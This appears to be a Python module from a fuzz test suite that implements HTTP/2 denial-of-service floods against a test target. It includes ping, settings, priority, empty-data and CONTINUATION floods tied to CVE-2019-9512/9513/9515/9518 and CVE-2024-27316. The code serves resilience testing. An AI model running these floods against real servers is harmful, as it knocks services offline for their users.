"""Small frames without end, each of which costs the server more than us."""

from __future__ import annotations

import random
import struct
from collections.abc import Callable, Iterator

from tests.fuzz.attacks import wire
from tests.fuzz.attacks.target import LIST, SEND, Target
from tests.fuzz.attacks.wire import Connection

_AT_ONCE = 500
_PING = wire.frame(wire.PING, 0, 0, b"12345678")


def ping_flood(target: Target) -> Iterator[int]:
    yield from _repeat(target, _PING)


def ping_flood_unread(target: Target) -> Iterator[int]:
    """CVE-2019-9512: the answers pile up, because nobody takes them."""
    yield from _repeat(target, _PING, read=False)


def settings_flood(target: Target) -> Iterator[int]:
    yield from _repeat(target, wire.settings({3: 100}))


def settings_flood_unread(target: Target) -> Iterator[int]:
    """CVE-2019-9515."""
    yield from _repeat(target, wire.settings({3: 100}), read=False)


def table_size_flood(target: Target) -> Iterator[int]:
    """Settings that shrink and grow the table of headers and all windows."""
    yield from _repeat(target, wire.settings({1: 0, 4: 0}) + wire.settings({1: 65_536, 4: 2**31 - 1}))


def empty_data_flood(target: Target) -> Iterator[int]:
    """CVE-2019-9518: frames without content, on a call that never ends."""
    opening = wire.headers(1, wire.block(wire.request_headers(SEND, target.token)))
    yield from _repeat(target, wire.data(1, b""), opening)


def priority_flood(target: Target) -> Iterator[int]:
    """CVE-2019-9513: trees of priorities, of streams that were never opened."""
    tree = b"".join(
        wire.frame(wire.PRIORITY, 0, stream, struct.pack(">IB", stream - 2, 7)) for stream in range(3, 203, 2)
    )
    yield from _repeat(target, tree, at_once=10, worth=100)


def window_flood(target: Target) -> Iterator[int]:
    """One byte more, and one more, on an open call and on its connection."""
    opening = wire.headers(1, wire.block(wire.request_headers(SEND, target.token)))
    yield from _repeat(target, wire.window_update(1, 1) + wire.window_update(0, 1), opening, worth=2)


def connection_window_overflow(target: Target) -> Iterator[int]:
    yield from _repeat(target, wire.window_update(0, wire.LARGEST_WINDOW))


def unknown_frames(target: Target) -> Iterator[int]:
    """Types that no version knows, which have to be skipped."""
    yield from _repeat(target, wire.frame(0xEE, 0xFF, 0, b"x" * 100))


def continuation_flood(target: Target) -> Iterator[int]:
    """CVE-2024-27316 and its kin: headers that never end."""
    block = wire.block(wire.request_headers(LIST, target.token))
    opening = wire.frame(wire.HEADERS, 0, 1, block)
    piece = wire.block([(f"x-{number}", "y" * 50) for number in range(20)])
    yield from _repeat(target, wire.frame(wire.CONTINUATION, 0, 1, piece), opening, at_once=20)


def empty_continuation_flood(target: Target) -> Iterator[int]:
    """The same with nothing in them, so that no limit of size is ever met."""
    opening = wire.frame(wire.HEADERS, 0, 1, wire.block(wire.request_headers(LIST, target.token)))
    yield from _repeat(target, wire.frame(wire.CONTINUATION, 0, 1), opening)


def after_goaway(target: Target) -> Iterator[int]:
    """Goes on after both sides have said goodbye."""
    goodbye = wire.frame(wire.GOAWAY, 0, 0, struct.pack(">II", 0, 0))
    block = wire.block(wire.request_headers(LIST, target.token))
    stream = iter(range(1, 2**31, 2))
    yield from _repeat(target, lambda: wire.headers(next(stream), block, end=True), goodbye)


def random_frames(target: Target) -> Iterator[int]:
    """Any frame of any kind with any content; the same ones in each run."""
    choice = random.Random(7)

    def any_frame() -> bytes:
        kind, flags, stream = choice.randrange(11), choice.randrange(256), choice.choice((0, 1, 3, 5, 2, 99))
        body = choice.randbytes(choice.choice((0, 1, 4, 5, 6, 8, 9, 60)))
        length = choice.choice((None, None, None, None, None, None, 0, 16_385, 2**24 - 1))
        return wire.frame(kind, flags, stream, body, length)

    yield from _repeat(target, any_frame, at_once=5)


def _repeat(
    target: Target,
    what: bytes | Callable[[], bytes],
    opening: bytes = b"",
    *,
    at_once: int = _AT_ONCE,
    worth: int = 1,
    read: bool = True,
) -> Iterator[int]:
    """The same thing until the connection ends, then on the next one."""
    while True:
        connection = Connection(target.port, receive_bytes=None if read else 4_096)
        alive = connection.send(opening)
        while alive:
            parts = what * at_once if isinstance(what, bytes) else b"".join(what() for _ in range(at_once))
            alive = connection.send(parts) and (not read or connection.drop_answers())
            yield at_once * worth
        connection.close()
        yield 0
